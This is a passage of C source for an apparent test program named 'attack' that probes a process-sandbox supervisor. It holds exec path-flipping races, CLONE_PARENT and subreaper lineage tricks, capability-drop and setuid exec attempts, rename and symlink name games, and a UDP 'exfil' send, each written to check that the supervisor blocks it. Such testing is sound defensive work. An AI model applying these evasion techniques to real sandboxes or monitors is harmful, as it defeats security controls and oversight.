        report("child_exec_proc_cwd", -1);
        _exit(1);
    }
    waitpid(c, NULL, 0);
    pthread_t t;
    pthread_create(&t, NULL, idle_thread, NULL);
    int fd = open(script, O_RDONLY);
    char *av_fd[] = {(char *)script, NULL};
    syscall(SYS_execveat, fd, "", av_fd, environ, AT_EMPTY_PATH);
    report("threaded_execveat_fd", -1);
    execve(rel, av, environ);
    report("threaded_exec_relative", -1);
    return 0;
}

/* A library unpacked to a file, loaded, then deleted (as netty and JNA do): the mapping is
 * then shown as "LIB (deleted)". Later checks of the mappings (after another allowed
 * mapping, and in a forked child) must not take it for an unlisted file. */
static int deleted_lib(const char *lib, const char *dir) {
    void *h = dlopen(lib, RTLD_NOW);
    report("dlopen", h ? 0 : -1);
    report("unlink", unlink(lib));
    int fd = open("/usr/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY);
    void *p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
    report("mmap_libc", p == MAP_FAILED ? -1 : 0);
    touch(dir, "after", NULL);
    pid_t c = fork();
    if (c == 0) {
        touch(dir, "child-after", NULL);
        _exit(0);
    }
    int st = 0;
    waitpid(c, &st, 0);
    printf("deleted_lib child %s\n", WIFEXITED(st) ? "exited" : "killed");
    return 0;
}

/* Names the supervisor remembers must follow the files. DIR/via is a symlink to the directory
 * DIR/a, holding the allowed program `ok` and library `lib.so`. Each is used once through
 * DIR/via; then DIR/a is renamed DIR/c and DIR/via re-pointed to it, and each is used again by
 * the very same path: the same files (a directory's rename leaves its files' times alone), now
 * named DIR/c/..., which the policy does not list. Last, a pipe is mapped. */
static int run_status(const char *path) {
    pid_t c = fork();
    if (c == 0) {
        char *argv[] = {(char *)path, NULL};
        execv(path, argv);
        _exit(errno);
    }
    int st = 0;
    waitpid(c, &st, 0);
    errno = WIFEXITED(st) ? WEXITSTATUS(st) : EINTR;
    return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -1;
}
static int map_exec(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return -1;
    void *p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
    int e = errno;
    close(fd);
    if (p == MAP_FAILED) {
        errno = e;
        return -1;
    }
    munmap(p, 4096);
    return 0;
}
static int names_moved(const char *dir) {
    char via[4096], prog[4096], lib[4096], a[4096], c[4096];
    snprintf(via, sizeof via, "%s/via", dir);
    snprintf(prog, sizeof prog, "%s/via/ok", dir);
    snprintf(lib, sizeof lib, "%s/via/lib.so", dir);
    snprintf(a, sizeof a, "%s/a", dir);
    snprintf(c, sizeof c, "%s/c", dir);
    report("exec1", run_status(prog));
    report("map1", map_exec(lib));
    report("rename", rename(a, c));
    report("unlink", unlink(via));
    report("symlink", symlink("c", via));
    report("exec2", run_status(prog));
    report("map2", map_exec(lib));
    /* Not a file: the supervisor's copy of it is closed on its closer thread. */
    int p[2];
    if (pipe(p) == 0) {
        void *m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, p[0], 0);
        report("map_pipe", m == MAP_FAILED ? -1 : 0);
    }
    return 0;
}

/* A file with two names (hard links): DIR/allowed/{prog,lib.so} and DIR/other/{prog,lib.so},
 * DIR/l a symlink to allowed. Each name is judged as itself, whichever the supervisor met
 * first: other/lib.so, then allowed/lib.so, then other/lib.so are mapped; DIR/l/prog is run,
 * DIR/l re-pointed to other, and DIR/l/prog run again. */
static int names_linked(const char *dir) {
    char p[4096], l[4096];
    snprintf(p, sizeof p, "%s/other/lib.so", dir);
    report("map_other_first", map_exec(p));
    snprintf(p, sizeof p, "%s/allowed/lib.so", dir);
    report("map_allowed", map_exec(p));
    snprintf(p, sizeof p, "%s/other/lib.so", dir);
    report("map_other_after", map_exec(p));
    snprintf(p, sizeof p, "%s/l/prog", dir);
    snprintf(l, sizeof l, "%s/l", dir);
    report("exec_via_allowed", run_status(p));
    report("unlink", unlink(l));
    report("symlink", symlink("other", l));
    report("exec_via_other", run_status(p));
    return 0;
}

/* An exec race whose unlisted program forks at once (a fork the policy allows is decided in
 * the kernel), before the supervisor finds it: its child must die with it. Each of ROUNDS
 * children execs GOOD while a thread flips the path to EVIL (same length; both are copies of
 * forker.c, built static, run as "swap_child DIR"). Run as EVIL, it forks a child that waits
 * 150 ms and then creates DIR/EVIL-CHILD-<pid> (a watched call); run as GOOD it exits. */
static char efr_path[4096], efr_a[4096], efr_b[4096];
static void *efr_flip(void *x) {
    (void)x;
    size_t n = strlen(efr_a);
    for (;;) {
        for (size_t i = 0; i < n; i++) ((volatile char *)efr_path)[i] = efr_a[i];
        for (volatile int i = 0; i < 50; i++) {}
        for (size_t i = 0; i < n; i++) ((volatile char *)efr_path)[i] = efr_b[i];
        for (volatile int i = 0; i < 50; i++) {}
    }
    return NULL;
}
static int exec_fork_race(const char *good, const char *evil, const char *dir, int rounds) {
    if (strlen(good) != strlen(evil) || strlen(good) >= sizeof efr_path) return 2;
    strcpy(efr_a, good);
    strcpy(efr_b, evil);
    for (int r = 0; r < rounds; r++) {
        pid_t p = fork();
        if (p == 0) {
            strcpy(efr_path, efr_a);
            pthread_t t;
            pthread_create(&t, NULL, efr_flip, NULL);
            char *av[] = {efr_path, "swap_child", (char *)dir, NULL};
            for (int k = 0; k < 200; k++) execve(efr_path, av, environ);
            _exit(111);
        }
        waitpid(p, NULL, 0);
    }
    usleep(400000);
    puts("exec_fork_race done");
    return 0;
}

// R1: an open for writing at the fd limit must fail with EMFILE, not hang.
static int fd_full(const char *path) {
    struct rlimit r = {16, 16};
    setrlimit(RLIMIT_NOFILE, &r);
    while (dup(0) >= 0) {}
    report("open_at_fd_limit", open(path, O_WRONLY | O_CREAT, 0644));
    return 0;
}

// B8: metadata changes are writes: setuid bit, owner, capabilities xattr, times, also through
// a descriptor opened read-only.
static int meta(const char *path) {
    report("chmod", chmod(path, 04777));
    report("chown", chown(path, getuid(), getgid()));
    report("setxattr", setxattr(path, "user.vigil", "x", 1, 0));
    report("utimensat", utimensat(AT_FDCWD, path, NULL, 0));
    int fd = open(path, O_RDONLY);
    report("fchmod_readonly_fd", fchmod(fd, 04777));
    return 0;
}

/* A process that gave up its capabilities creates a sibling (CLONE_PARENT): the sibling's
 * parent is a process with the supervisor's credentials, its own are the capability-less
 * ones. It binds a privileged port, which needs a capability it does not have: the supervisor
 * must not do it with its own. Also a child re-parented to a subreaper. */
static void bind_low(const char *who, int port) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    int r = bind(s, (struct sockaddr *)&a, sizeof a);
    printf("%s bind %s\n", who, r == 0 ? "ok" : "err");
    fflush(stdout);
    close(s);
}

static void drop_caps(void) {
    struct { uint32_t version; int pid; } h = {0x20080522, 0};
    uint32_t d[6] = {0};
    syscall(SYS_capset, &h, d);
}

static int lineage(int port) {
    bind_low("warmup", 1); /* a notified call of the first process */
    pid_t p = fork();
    if (p == 0) {
        drop_caps();
        long c = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
        if (c == 0) { bind_low("sibling", port); _exit(0); }
        _exit(0);
    }
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    pid_t q = fork();
    if (q == 0) {
        drop_caps();
        if (fork() == 0) { usleep(200000); bind_low("orphan", port); _exit(0); }
        _exit(0);
    }
    while (wait(NULL) > 0) {}
    return 0;
}

/* A child whose parent is not the process that forked it runs its forker's program, not its
 * parent's: a sibling made with CLONE_PARENT (its parent is the shell that ran this program),
 * and an orphan adopted by a subreaper (this program, adopting a shell's subshell). Each then
 * writes a file the policy refuses; the finding must name the program that really ran. */
static int image_sibling(const char *dir) {
    long c = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
    if (c == 0) {
        char path[4096];
        snprintf(path, sizeof path, "%s/sibling", dir);
        int fd = open(path, O_WRONLY | O_CREAT, 0644);
        printf("sibling open %s\n", fd < 0 ? "err" : "ok");
        _exit(0);
    }
    usleep(300000);
    return 0;
}

static int image_adopt(const char *dir) {
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    char script[4096];
    snprintf(script, sizeof script, "(sleep 0.3; echo x > %s/orphan || echo orphan write err) & exit 0", dir);
    pid_t p = fork();
    if (p == 0) {
        execl("/bin/sh", "sh", "-c", script, (char *)NULL);
        _exit(127);
    }
    while (wait(NULL) > 0) {}
    return 0;
}

/* An exec of the program already running, with its path flipped by another thread to a program
 * of the same path length that the policy does not list (EVIL), and a large environment so the
 * kernel takes long to switch images after it read the path. Meanwhile another thread makes
 * watched calls (creating OUT/poke), so the supervisor checks the image while it is still the
 * old one, which is the one expected. Every image that runs is this program again (next
 * generation) or EVIL, which must be killed before it acts. */
static char reexec_path[4096];
static char flip_a[4096], flip_b[4096];
static volatile int flipping;
static void *flipper(void *arg) {
    (void)arg;
    size_t n = strlen(flip_a), off = 0;
    while (off < n && flip_a[off] == flip_b[off]) off++;
    volatile char *p = reexec_path;
    flipping = 1;
    for (;;) {
        for (size_t i = off; i < n; i++) p[i] = flip_a[i];
        for (volatile int i = 0; i < 50; i++) {}
        for (size_t i = off; i < n; i++) p[i] = flip_b[i];
        for (volatile int i = 0; i < 50; i++) {}
    }
    return NULL;
}
static const char *poke_dir;
static void *poker(void *arg) {
    (void)arg;
    char p[4096];
    snprintf(p, sizeof p, "%s/poke", poke_dir);
    for (;;) {
        int fd = open(p, O_WRONLY | O_CREAT, 0644);
        if (fd >= 0) close(fd);
    }
    return NULL;
}
static int reexec_race(const char *self, const char *evil, const char *out, int gen) {
    if (strlen(self) != strlen(evil) || strlen(self) >= sizeof reexec_path) return 2;
    if (gen >= 40) { printf("reexec_race done %d\n", gen); return 0; }
    struct rlimit rl = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_STACK, &rl);
    static char *envp[48];
    static char marker[4200];
    snprintf(marker, sizeof marker, "VIGIL_TEST_MARKER=%s/PWNED", out);
    int k = 0;
    envp[k++] = marker;
    for (; k < 41; k++) {
        char *e = malloc(120000);
        if (!e) return 2;
        memset(e, 'A', 119999);
        e[0] = 'X'; e[1] = '='; e[119999] = 0;
        envp[k] = e;
    }
    envp[k] = NULL;
    strcpy(flip_a, self); strcpy(flip_b, evil); strcpy(reexec_path, self);
    poke_dir = out;
    char next[16];
    snprintf(next, sizeof next, "%d", gen + 1);
    char *av[] = {(char *)self, "reexec_race", (char *)self, (char *)evil, (char *)out, next, NULL};
    pthread_t t1, t2;
    pthread_create(&t1, NULL, flipper, NULL);
    pthread_create(&t2, NULL, poker, NULL);
    while (!flipping) {}
    for (int i = 0; i < 200; i++) execve(reexec_path, av, envp);
    printf("reexec_race exec failed %d\n", errno);
    return 0;
}

/* Two threads exec `SELF noop` at once (a large environment keeps each exec long), in N
 * children one after the other: both execs are let through and checked, one lands. */
static char **big_env(void) {
    static char *envp[48];
    int k = 0;
    for (; k < 40; k++) {
        char *e = malloc(120000);
        if (!e) return NULL;
        memset(e, 'A', 119999);
        e[0] = 'X'; e[1] = '='; e[119999] = 0;
        envp[k] = e;
    }
    envp[k] = NULL;
    return envp;
}
static volatile int exec_go, exec_ready;
static const char *concurrent_self;
static char **concurrent_env;
static void *second_exec(void *arg) {
    (void)arg;
    exec_ready = 1;
    while (!exec_go) {}
    char *av[] = {(char *)concurrent_self, "noop", NULL};
    execve(concurrent_self, av, concurrent_env);
    printf("second exec err %d\n", errno);
    fflush(stdout);
    return NULL;
}
static int concurrent_exec_once(const char *self) {
    struct rlimit rl = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_STACK, &rl);
    concurrent_self = self;
    concurrent_env = big_env();
    if (!concurrent_env) return 2;
    pthread_t t;
    pthread_create(&t, NULL, second_exec, NULL);
    char *av[] = {(char *)self, "noop", NULL};
    while (!exec_ready) {}
    exec_go = 1;
    execve(self, av, concurrent_env);
    printf("first exec err %d\n", errno);
    fflush(stdout);
    pthread_join(t, NULL);
    return 0;
}
static int concurrent_exec(const char *self, int n) {
    for (int i = 0; i < n; i++) {
        fflush(stdout);
        pid_t p = fork();
        if (p == 0) _exit(concurrent_exec_once(self));
        waitpid(p, NULL, 0);
    }
    printf("concurrent_exec done\n");
    return 0;
}

/* Credentials changed without changing the ids (capabilities dropped), or on one thread only:
 * the exec that follows must be refused with a finding, and the supervisor must not read the
 * program (its #! line) with powers the process gave up. */
static int capdrop_exec(const char *path) {
    drop_caps();
    char *args[] = {(char *)path, NULL};
    execve(path, args, environ);
    printf("capdrop_exec err %d\n", errno);
    return 0;
}

static void *setuid_then_exec(void *path) {
    syscall(SYS_setresuid, 65534, 65534, 65534);
    char *args[] = {(char *)path, NULL};
    execve((char *)path, args, environ);
    printf("thread_exec err %d\n", errno);
    fflush(stdout);
    return NULL;
}

static int thread_setuid_exec(const char *path) {
    pthread_t t;
    pthread_create(&t, NULL, setuid_then_exec, (void *)path);
    pthread_join(t, NULL);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: attack NAME [ARGS]\n"); return 2; }
    const char *c = argv[1];
    if (!strcmp(c, "noop")) { puts("noop ok"); return 0; }
    if (!strcmp(c, "connect") && argc == 4) { report("connect", do_connect(argv[2], atoi(argv[3]))); return 0; }
    if (!strcmp(c, "connect_race") && argc == 5) return connect_race(atoi(argv[2]), atoi(argv[3]), atoi(argv[4]));
    if (!strcmp(c, "udp") && argc == 4) {
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a = in4(argv[2], atoi(argv[3]));
        report("sendto", sendto(s, "exfil", 5, 0, (struct sockaddr *)&a, sizeof a));
        return 0;
    }
    if (!strcmp(c, "unix") && argc == 3) {
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        struct sockaddr_un a = {0};
        a.sun_family = AF_UNIX;
        strncpy(a.sun_path, argv[2], sizeof a.sun_path - 1);
        int r = connect(s, (struct sockaddr *)&a, sizeof a);
        if (r == 0) write(s, "unix", 4);
        report("unix_connect", r);
        return 0;
    }
    if (!strcmp(c, "exec") && argc >= 3) return exec_path(argv + 2);
    if (!strcmp(c, "exec_race") && argc == 5) return exec_race(argv[2], argv[3], atoi(argv[4]));
    if (!strcmp(c, "execveat") && argc == 3) return execveat_fd(argv[2]);
    if (!strcmp(c, "memfd_exec") && argc == 3) return memfd_exec(argv[2]);
    if (!strcmp(c, "vfork_exec") && argc == 3) return vfork_exec(argv[2]);
    if (!strcmp(c, "fork")) {
        pid_t p = fork();
        if (p == 0) _exit(0);
        report("fork", p);
        if (p > 0) waitpid(p, NULL, 0);
        return 0;
    }
    if (!strcmp(c, "write") && argc == 3) {
        int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        report("open_write", fd);
        if (fd >= 0) write(fd, "written\n", 8);
        return 0;
    }
    if (!strcmp(c, "open_race") && argc == 5) return open_race(argv[2], argv[3], atoi(argv[4]));
    if (!strcmp(c, "rename") && argc == 4) { report("rename", rename(argv[2], argv[3])); return 0; }
    if (!strcmp(c, "link") && argc == 4) { report("link", link(argv[2], argv[3])); return 0; }
    if (!strcmp(c, "symlink") && argc == 4) { report("symlink", symlink(argv[2], argv[3])); return 0; }
    if (!strcmp(c, "unlink") && argc == 3) { report("unlink", unlink(argv[2])); return 0; }
    if (!strcmp(c, "wx")) return wx();
    if (!strcmp(c, "mprotect_x")) return mprotect_x();
    if (!strcmp(c, "mprotect_file") && argc == 3) return mprotect_file(argv[2]);
    if (!strcmp(c, "int80")) return int80();
    if (!strcmp(c, "x32")) return x32();
    if (!strcmp(c, "io_uring")) return uring();
    if (!strcmp(c, "tamper")) return tamper();
    if (!strcmp(c, "signals") && argc == 5) return signals(atoi(argv[2]), atoi(argv[3]), argv[4]);
    if (!strcmp(c, "wait_then_connect") && argc == 4) return wait_then_connect(argv[2], atoi(argv[3]));
    if (!strcmp(c, "sendmmsg_skip") && argc == 4) return sendmmsg_skip(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(c, "cow_exec") && argc == 3) return cow_exec(argv[2]);
    if (!strcmp(c, "bind_unspec") && argc == 3) return bind_unspec(atoi(argv[2]));
    if (!strcmp(c, "cmsg_overflow")) return cmsg_overflow();
    if (!strcmp(c, "deputy_signal") && argc == 3) return deputy_signal(atoi(argv[2]));
    if (!strcmp(c, "misc_review")) return misc_review();
    if (!strcmp(c, "lineage") && argc == 3) return lineage(atoi(argv[2]));
    if (!strcmp(c, "image_sibling") && argc == 3) return image_sibling(argv[2]);
    if (!strcmp(c, "concurrent_exec") && argc == 4) return concurrent_exec(argv[2], atoi(argv[3]));
    if (!strcmp(c, "reexec_race") && argc == 6) return reexec_race(argv[2], argv[3], argv[4], atoi(argv[5]));
    if (!strcmp(c, "image_adopt") && argc == 3) return image_adopt(argv[2]);
    if (!strcmp(c, "capdrop_exec") && argc == 3) return capdrop_exec(argv[2]);
    if (!strcmp(c, "thread_setuid_exec") && argc == 3) return thread_setuid_exec(argv[2]);
    if (!strcmp(c, "fd_full") && argc == 3) return fd_full(argv[2]);
    if (!strcmp(c, "device") && argc == 4) return device(argv[2], argv[3]);
    if (!strcmp(c, "proc_fd") && argc == 5) return proc_fd(atoi(argv[2]), atoi(argv[3]), argv[4]);
    if (!strcmp(c, "ip_steer") && argc == 3) return ip_steer(atoi(argv[2]));
    if (!strcmp(c, "exec_fork_race") && argc == 6) return exec_fork_race(argv[2], argv[3], argv[4], atoi(argv[5]));
    if (!strcmp(c, "deleted_lib") && argc == 4) return deleted_lib(argv[2], argv[3]);
    if (!strcmp(c, "names_moved") && argc == 3) return names_moved(argv[2]);
    if (!strcmp(c, "names_linked") && argc == 3) return names_linked(argv[2]);
    if (!strcmp(c, "script_names") && argc == 4) return script_names(argv[2], argv[3]);
    if (!strcmp(c, "vm_sibling_after_kill") && argc == 5) return vm_sibling_after_kill(argv[2], argv[3], argv[4]);
    if (!strcmp(c, "fork_after_map") && argc == 5) return fork_after_map(argv[2], argv[3], argv[4]);
    if (!strcmp(c, "vm_sibling_map") && argc == 5) return vm_sibling_map(argv[2], argv[3], argv[4]);
    if (!strcmp(c, "map_land_race") && argc == 6) return map_land_race(argv[2], argv[3], argv[4], atoi(argv[5]));
    if (!strcmp(c, "meta") && argc == 3) return meta(argv[2]);
    if (!strcmp(c, "flood") && argc == 4) {
        int denied = 0;
        for (int i = 0; i < atoi(argv[2]); i++)
            if (do_connect("127.0.0.1", atoi(argv[3])) != 0 && errno == EPERM) denied++;
        printf("flood denied %d\n", denied);
        return 0;
    }
    fprintf(stderr, "attack: unknown or malformed command %s\n", c);
    return 2;
}
